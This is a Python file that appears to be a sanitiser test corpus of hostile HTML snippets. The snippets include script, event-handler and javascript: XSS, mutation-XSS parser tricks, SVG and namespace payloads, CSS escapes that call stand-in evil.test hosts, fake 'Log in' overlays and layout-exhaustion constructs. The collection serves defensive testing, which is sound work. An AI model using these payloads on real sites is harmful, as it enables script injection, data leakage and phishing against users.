"""HTML that tries to run, load, submit, navigate or cover something when a browser shows it.

Each entry has a name. A script that runs sets the title to RAN and asks a host under evil.test;
whatever loads names a host under evil.test.
"""

RUN = "document.title='RAN';try{parent.document.title='RAN'}catch(e){};new Image().src='http://ran.evil.test/'"
_SVG_SCRIPT = f"<svg xmlns=&quot;http://www.w3.org/2000/svg&quot; onload=&quot;{RUN}&quot;/>"

HOSTILE = {
    "script": f"<script>{RUN}</script><script src=http://script.evil.test/x.js></script>",
    "script type": f'<script type="module">{RUN}</script><SCRIPT/x>{RUN}</SCRIPT >',
    "event handlers": (
        f'<body onload="{RUN}"><img src=x onerror="{RUN}"><div onmouseover="{RUN}">x</div>'
        f'<details open ontoggle="{RUN}"><summary>x</summary></details>'
        f'<video><source onerror="{RUN}"></video><input autofocus onfocus="{RUN}">'
        f'<marquee onstart="{RUN}">x</marquee><p style="animation:x" onanimationstart="{RUN}">'
    ),
    "javascript links": (
        f'<a id=first href="javascript:{RUN}">a</a><a href="jav&#x09;ascript:{RUN}">b</a>'
        f'<a href=" &#1;javascript:{RUN}">c</a><a href="vbscript:msgbox(1)">d</a>'
        '<a href="JaVaScRiPt&colon;fetch(`http://ran.evil.test/`)">e</a><a href="data:text/html,<script>x</script>">f</a>'
        '<area href="javascript:fetch(`http://ran.evil.test/`)"><a href="blob:http://evil.test/x">g</a>'
        '<a href="file:///etc/passwd">h</a><a href="view-source:http://evil.test">i</a>'
    ),
    "meta refresh": (
        '<meta http-equiv="refresh" content="0;url=http://refresh.evil.test/">'
        '<meta http-equiv=refresh content="0;url=javascript:fetch(`http://ran.evil.test/`)">'
        "<meta http-equiv=Set-Cookie content=a=b><meta http-equiv=Content-Security-Policy content=x>"
        '<meta charset="utf-7"><meta http-equiv="x-dns-prefetch-control" content="on">'
    ),
    "base": '<base href="http://base.evil.test/" target="_top"><a href="/x">x</a><img src="y.png">',
    "forms": (
        '<form id=f action="http://form.evil.test/" target=_top><input name=a value=b>'
        '<input type=image src="http://input.evil.test/i.png"><button>x</button>'
        '<button formaction="http://formaction.evil.test/">y</button><label for=s>z</label>'
        "<input type=submit id=s><textarea name=t>u</textarea><select><option>v</select>"
        '<isindex action="http://isindex.evil.test/"></form><input form=f type=submit autofocus>'
    ),
    "svg": (
        f'<svg onload="{RUN}"><script>{RUN}</script><a xlink:href="javascript:{RUN}"><rect></a>'
        '<image href="http://svgimage.evil.test/"/><use href="http://svguse.evil.test/#a"/>'
        f'<animate onbegin="{RUN}" attributeName=x dur=1s><foreignObject><iframe srcdoc="<script>'
        f'{RUN}</script>"></foreignObject><style>@import "http://svgstyle.evil.test/";</style></svg>'
        '<svg><set attributeName="href" to="javascript:fetch(`http://ran.evil.test/`)"/></svg>'
    ),
    "mutation": (
        f'<svg></p><style><a id="</style><img src=1 onerror={RUN!r}>">'
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN!r}&gt;">'
        f'<noscript><p title="</noscript><img src=x onerror={RUN!r}>">'
        f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>"
        f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={RUN!r} src>">'
        f'<select><template><img src=x onerror="{RUN}"></template></select>'
    ),
    "style element": (
        f"<style></style><script>{RUN}</script></style><style>@import url(http://import.evil.test/a.css);"
        "@font-face{font-family:e;src:url(http://font.evil.test/f.woff)}body{font-family:e;"
        "background:url(http://cssbg.evil.test/b.png)}a[href^=x]{background:url(//attr.evil.test/)}"
        "</style><style>@namespace url(http://ns.evil.test/);p{behavior:url(#x);cursor:url(http://cursor.evil.test/),auto}"
        "p::before{content:url(http://content.evil.test/)}@media all{p{list-style:url(http://list.evil.test/)}}"
        r"p{background:u\72l(http://escape.evil.test/)}p{background:/**/url(http://comment.evil.test/)}"
    ),
    "style attribute": (
        "<p style=\"background:url('http://style.evil.test/a.png')\">x</p>"
        "<p style='background-image:image-set(\"http://imageset.evil.test/a.png\" 1x)'>x</p>"
        '<p style="width:expression(fetch(`http://ran.evil.test/`));-moz-binding:url(http://binding.evil.test/)">x</p>'
        r'<p style="background:\75\72\6c(http://hex.evil.test/)">x</p>'
        '<p style="list-style-image:url(//relative.evil.test/x)">x</p>'
        '<p style="x:y}</style><script>fetch(`http://ran.evil.test/`)</script>">x</p>'
        '<ul style="--x:url(http://var.evil.test/);background:var(--x)"><li>x</ul>'
    ),
    "overlay": (
        '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;'
        'background:red">Log in</div><style>*{position:fixed;top:0;left:0}</style>'
    ),
    "links to resources": (
        '<link rel=preconnect href="http://preconnect.evil.test/"><link rel=dns-prefetch href="//dns.evil.test/">'
        '<link rel=prefetch href="http://prefetch.evil.test/"><link rel=prerender href="http://prerender.evil.test/">'
        '<link rel=preload as=image href="http://preload.evil.test/"><link rel=modulepreload href="http://mp.evil.test/">'
        '<link rel=stylesheet href="http://sheet.evil.test/a.css"><link rel=icon href="http://icon.evil.test/">'
        '<link rel=manifest href="http://manifest.evil.test/"><link rel=import href="http://import2.evil.test/">'
        f'<a href="http://anchor.evil.test/" ping="http://ping.evil.test/" onclick="{RUN}">x</a>'
    ),
    "remote images": (
        '<img src="http://img.evil.test/1.png"><img src="//img2.evil.test/2.png" width=1 height=1>'
        '<img srcset="http://srcset.evil.test/1.png 1x, http://srcset2.evil.test/2.png 2x">'
        "<picture><source srcset=http://source.evil.test/a.png><img src=http://pic.evil.test/a></picture>"
        '<img lowsrc="http://low.evil.test/" dynsrc="http://dyn.evil.test/"><image src=http://image.evil.test/>'
        '<table background="http://tablebg.evil.test/"><td background="http://tdbg.evil.test/">x</table>'
        '<body background="http://bodybg.evil.test/">'
    ),
    "remote images in odd ways": (
        '<meta name=referrer content=unsafe-url><img src=" http://plain.evil.test/x\n" crossorigin=use-credentials>'
        '<img src="http://referrer.evil.test/" referrerpolicy=unsafe-url attributionsrc="http://attribution.evil.test/">'
        '<img src="http://me:secret@user.evil.test/"><img src="http://plain.evil.test@at.evil.test/">'
        '<img src="http:\\\\backslash.evil.test\\x"><img src="http:/slash.evil.test/"><img src="http:none.evil.test/">'
        '<img src="ht&#10;tp://newline.evil.test/"><img src="http://percent%2eevil.test/"><img src="ftp://ftp.evil.test/">'
        '<img srcset="//set.evil.test/ 1x, http://u@set2.evil.test/ 2x, data:image/svg+xml,x 3x">'
        '<p style="background:url(//css.evil.test/)">x</p><p style="background:url(http://u@css2.evil.test/)">x</p>'
        '<p style="background-image:cross-fade(url(http://css3.evil.test/),red)">x</p>'
        "<p style='background:\"x\" url(http://css4.evil.test/)'>x</p><p style='border-image:url(http://css5.evil.test/)'>x</p>"
        '<div style="--a:url(http://css6.evil.test/);background:var(--a)">x</div>'
        '<ul style="list-style-image:url(http://css7.evil.test/)"><li>x</ul><q style="content:url(http://css8.evil.test/)">x</q>'
        "<style>p{mask:url(http://css9.evil.test/);cursor:url(http://css10.evil.test/),auto}"
        "p{background:url('http://css11.evil.test/\\29')}@supports(a:b){p{background:url(http://css12.evil.test/)}}</style>"
        '<link rel=preload as=image imagesrcset="http://preload2.evil.test/ 1x"><input type=image src=http://input2.evil.test/>'
    ),
    "media": (
        '<video src="http://video.evil.test/v" poster="http://poster.evil.test/p" autoplay></video>'
        '<audio src="http://audio.evil.test/a" autoplay></audio><bgsound src="http://bgsound.evil.test/">'
        '<embed src="http://embed.evil.test/"><object data="http://object.evil.test/"></object>'
        '<object data="data:text/html,<script>fetch(`http://ran.evil.test/`)</script>"></object><applet code=x archive="http://applet.evil.test/">'
        '<video><track src="http://track.evil.test/" default></video>'
    ),
    "frames": (
        '<iframe src="http://frame.evil.test/"></iframe>'
        f'<iframe srcdoc="<script>{RUN}</script><img src=http://srcdoc.evil.test/>"></iframe>'
        f'<iframe src="javascript:{RUN}"></iframe><iframe src="data:text/html,<script>{RUN}</script>"></iframe>'
        '<frameset><frame src="http://frameset.evil.test/"></frameset><portal src="http://portal.evil.test/">'
        '<fencedframe src="http://fenced.evil.test/"></fencedframe>'
    ),
    "connections": (
        '<iframe srcdoc="<link rel=preconnect href=http://srcdoc2.evil.test/><meta http-equiv=refresh content=0;url=http://srcdoc3.evil.test/>"></iframe>'
        '<iframe srcdoc="&lt;link rel=preconnect href=http://srcdoc4.evil.test/&gt;"></iframe><LINK/rel=preconnect/href=http://slash.evil.test/>'
        "<svg><link rel=preconnect href=http://svglink.evil.test/></svg><math><link rel=preconnect href=http://mathlink.evil.test/></math>"
        "<link http-equiv=refresh content=0;url=http://refresh2.evil.test/><template shadowrootmode=open><link rel=preconnect href=http://shadow2.evil.test/></template>"
        '<object data=http://object2.evil.test/ type=text/html></object><noscript><iframe src="http://noscript.evil.test/"></iframe></noscript>'
    ),
    "data images": (
        f'<img src="data:image/svg+xml,{_SVG_SCRIPT}"><img src="data:text/html,<script>x</script>">'
        '<img src="data:image/svg+xml;base64,PHN2Zy8+"><img src="data:,x">'
    ),
    "targets": (
        '<a target=_top href="http://top.evil.test/">x</a><a target=_parent href="http://parent.evil.test/">y</a>'
        '<a target=_self href="http://self.evil.test/">z</a><a target=name href="http://name.evil.test/">z</a>'
        '<a href="/relative">r</a><a href="//protocol.evil.test/">p</a><a href="#top">t</a>'
    ),
    "comments": (
        f"<!--[if gte IE 4]><script>{RUN}</script><![endif]--><![if !mso]><b>x</b><![endif]>"
        f'<!--><script>{RUN}</script>--><!-- --!><img src=x onerror="{RUN}"> --><![CDATA[<script>{RUN}</script>]]>'
        f"<?xml-stylesheet href='http://pi.evil.test/'?><!DOCTYPE x [<!ENTITY y SYSTEM 'http://entity.evil.test/'>]>"
    ),
    "unterminated": f'<img src="http://open.evil.test/" onerror="{RUN}" title="<p <a href=javascript:x <script>{RUN}',
    "unterminated comment": "<b>x</b><!-- <img src=http://opencomment.evil.test/>",
    "title": "<title>RAN</title></title><script>document.title='RAN'</script><plaintext>",
    "clobbering": '<img name=cookie><form name=body><input name=innerHTML></form><a id=location href="http://x.evil.test/">x</a>',
    "template": f'<template shadowrootmode=open><script>{RUN}</script><img src="http://shadow.evil.test/"></template>',
    "speculation": '<script type="speculationrules">{"prefetch":[{"urls":["http://speculation.evil.test/"]}]}</script>',
    "window": "<dialog open><form method=dialog><button>x</button></form></dialog><p popover id=p>x</p><p contenteditable autofocus>x</p>",
    "svg that animates": (
        '<svg><a href="#"><set attributeName=href to="javascript:fetch(`http://ran.evil.test/`)"/><text y=20>x</text></a>'
        f'<animate attributeName=href values="javascript:{RUN}" onbegin="{RUN}"/><animateMotion path=M0 onend="{RUN}"/><discard begin=0s></svg>'
    ),
    "svg that loads": (
        "<svg><image href=http://svg1.evil.test/ xlink:href=http://svg2.evil.test/ /><feImage href=http://svg3.evil.test/ />"
        '<use href=http://svg4.evil.test/#a /><rect fill="url(http://svg5.evil.test/#a)" style="fill:url(http://svg6.evil.test/#a)"/>'
        '<rect mask="url(http://svg7.evil.test/#a)" filter="url(http://svg8.evil.test/#a)" clip-path="url(http://svg9.evil.test/#a)"/>'
        '<path d="M0" marker-end="url(http://svg10.evil.test/#a)" cursor="url(http://svg11.evil.test/)"/><script href=http://svg12.evil.test/ />'
        '<linearGradient href="http://svg13.evil.test/#a"/><style>@import "http://svg14.evil.test/";rect{fill:url("http://svg15.evil.test/#a")}</style></svg>'
    ),
    "svg with html in it": (
        f'<svg><foreignObject><body onload="{RUN}"><iframe src="javascript:{RUN}"></iframe><img src=http://foreign.evil.test/></foreignObject>'
        f'<desc><img src=x onerror="{RUN}"></desc><title><script>{RUN}</script></title></svg>'
    ),
    "svg parsed twice": (
        f'<svg><path d="</path></svg><img src=x onerror={RUN!r}>"/><text><![CDATA[</text><img src=x onerror={RUN!r}>]]></text>'
        f'<style><a title="</style><img src=x onerror={RUN!r}>"></style></svg><svg></p><text></br><g><p><style><!--</style><img src=x onerror={RUN!r}>-->'
        f'<svg><table><svg><tr><style><g id="</style><img src=x onerror={RUN!r}>">'
    ),
    "svg in odd places": (
        f'<table><svg><g><tr><td><svg onload="{RUN}"></table><select><svg><script>{RUN}</script></select><p><svg/onload="{RUN}"/x>'
        f'<math><mi><svg><mtext><script>{RUN}</script></math><button><svg><button><a><svg><a><g></button><svg><path d=x onclick="{RUN}"/>'
    ),
    "attribute that ends": (
        f"""<svg viewBox='0 0 9 9" onload="{RUN}'><path d='"><script>{RUN}</script>'/><rect fill="'&quot;><img src=x onerror={RUN!r}>"/></svg>"""
        f"""<p style='color:red"onclick="{RUN}'>x</p><p style="font-family:&quot;&gt;<script>{RUN}</script>">x</p>"""
    ),
    "variables": (
        '<style>:root{--u:url(http://v1.evil.test/);--i:image-set("http://v2.evil.test/" 1x);--s:"http://v3.evil.test/";--e:\\75rl(http://v4.evil.test/)}'
        "p{background:var(--u);background:var(--none,url(http://v5.evil.test/));background:image-set(var(--s) 1x);background:src(var(--s));cursor:var(--u),auto}"
        "p::after{content:var(--u);content:image(var(--s))}@property --q{syntax:'<image>';inherits:true;initial-value:url(http://v6.evil.test/)}</style><p>x"
    ),
    "functions of images": (
        '<p style="background:-webkit-image-set(url(http://f1.evil.test/) 1x)">x<p style="background:-webkit-cross-fade(url(http://f2.evil.test/),red,50%)">x'
        '<p style="mask-image:url(http://f3.evil.test/)">x<p style="-webkit-mask-box-image:url(http://f4.evil.test/)">x<p style="shape-outside:url(http://f5.evil.test/);float:left">x'
        '<p style="filter:url(http://f6.evil.test/#a)">x<p style="clip-path:url(http://f7.evil.test/#a)">x<p style="offset-path:url(http://f8.evil.test/#a)">x'
        '<p style="border-image:url(http://f9.evil.test/) 1;border:1px solid">x<p title="http://f10.evil.test/" style="background:image-set(attr(title))">'
        'x<p style="-webkit-box-reflect:below 0 url(http://f11.evil.test/)">x'
    ),
    "strings that desynchronise": (
        "<style>p{content:'a\f;background:url(http://d1.evil.test/);'}p{--x:/*}b{--y:'*/ url(http://d2.evil.test/)'}p{--z:\"\n;background:url(http://d3.evil.test/)}"
        'p[title="\f]{}i{background:url(http://d4.evil.test/)}"]{color:red}p{--p:(}i{background:url(http://d5.evil.test/)})}p{--b:[}i{background:url(http://d6.evil.test/)}]}</style>'
        "<p title=x>x<i>y</i>"
        '<p style="font-family:\'&#12;;background:url(http://d7.evil.test/)\'">x<p style="font-family:x\\;background:url(http://d8.evil.test/)">x'
    ),
    "rules in conditions": (
        "<style>@supports (display:grid){@import 'http://c1.evil.test/';@font-face{font-family:z;src:url(http://c2.evil.test/)}p{list-style:url(http://c3.evil.test/);font-family:z}}"
        "@supports (background:url(http://c4.evil.test/)){p{color:red}}@supports(x:y}p{background:url(http://c5.evil.test/)}{}@layer a{p{cursor:url(http://c6.evil.test/),auto}}"
        "@container (min-width:0){p{border-image:url(http://c7.evil.test/)}}@media (min-width:0){p{&{mask:url(http://c8.evil.test/)}}}@page{background:url(http://c9.evil.test/)}"
        "@keyframes k{to{list-style-image:url(http://c10.evil.test/)}}@document url(http://c11.evil.test/){p{}}@counter-style s{system:cyclic;symbols:url(http://c12.evil.test/)}</style>"
        "<ul><li><p>x</ul>"
    ),
    "fixed over everything": (
        '<style>html,body{position:fixed;inset:-9999px;z-index:2147483647}</style><a href="http://cover.evil.test/" target=_top style="position:fixed;inset:-99999px;width:999999999px;'
        'height:1e9px;transform:scale(999) translate3d(-9999px,0,9e9px);background:red;zoom:9">Log in</a><svg width=1e9 height=1e9 style="position:fixed;inset:0;overflow:visible">'
        "<rect x=-1e9 width=1e10 height=1e10></svg>"
    ),
    "huge layouts": (
        '<div style="display:grid;grid-template-columns:repeat(9999999,1px);grid-auto-rows:9e9px"><p style="grid-area:9999999/9999999">x</div><div style="columns:9999999;'
        'column-gap:9e9px">x</div>'
        f'<div style="{"".join(f"--a{n}:var(--a{n + 1}) var(--a{n + 1});" for n in range(99))}--a99:x;margin:var(--a0);width:{"calc(" * 99}1px{")" * 99}">x</div>'
    ),
    "fields that are active": (
        f'<form action=http://field1.evil.test/><button formaction=http://field2.evil.test/ onclick="{RUN}" autofocus onfocus="{RUN}">x</button>'
        "<input disabled=false type=image src=http://field3.evil.test/>"
        f'<input list=l oninput="{RUN}" autofocus><input type=submit formaction="javascript:{RUN}"><button popovertarget=p command=show-popover commandfor=p>y</button><p popover id=p>z'
        f'<label for=i>q</label><input id=i type=file accept=x onchange="{RUN}"><keygen autofocus onfocus="{RUN}"><output form=x></output></form>'
        '<button type=submit form=x disabled=""disabled>x'
    ),
    "own document as an image": (
        "<p id=a style=\"background:url(#a);list-style-image:url('#a');mask:url(#a);filter:url(#a);cursor:url(#a),auto;border-image:url(#a)\">x<svg><rect fill=url(#a) mask=url(#a) />"
        "<image href=#a /></svg>"
        '<p style="background:url(/messages/last)">x<p style="background:url(?q=1)">x<img src="" srcset="/queue 1x"><p style="background:url()">x'
    ),
    "environment": '<p style="background:env(x,url(http://e1.evil.test/));width:env(safe-area-inset-top,attr(title));content:attr(title url)" title=http://e2.evil.test/>x',
    "names with escapes": r"<style>@\69mport 'http://n1.evil.test/';p{b\61 ckground:\55RL(http://n2.evil.test/);ba\ckground:u\rl(http://n3.evil.test/)}"
    r"@im\port url(http://n4.evil.test/)</style><p>x",
    "speculation rules": '<script type=speculationrules>{"prefetch":[{"urls":["http://spec.evil.test/"]}]}</script><script type=importmap>{"imports":{"a":"http://map.evil.test/"}}'
    "</script><template shadowrootmode=open><img src=http://shadow.evil.test/></template>",
    "dialogs": f'<dialog open onclose="{RUN}"><form method=dialog><button>x</button></form></dialog><details open ontoggle="{RUN}"><summary>x</summary><img src=x onerror="{RUN}">'
    f'</details><p contenteditable autofocus onfocus="{RUN}">y',
    "namespaces": f'<html xmlns:x="http://ns1.evil.test/"><x:script>{RUN}</x:script><svg:svg onload="{RUN}"/><html:img src=x onerror="{RUN}"/>'
    '<?xml-stylesheet href="http://ns2.evil.test/"?><!ENTITY a SYSTEM "http://ns3.evil.test/"><xml src=http://ns4.evil.test/>',
}
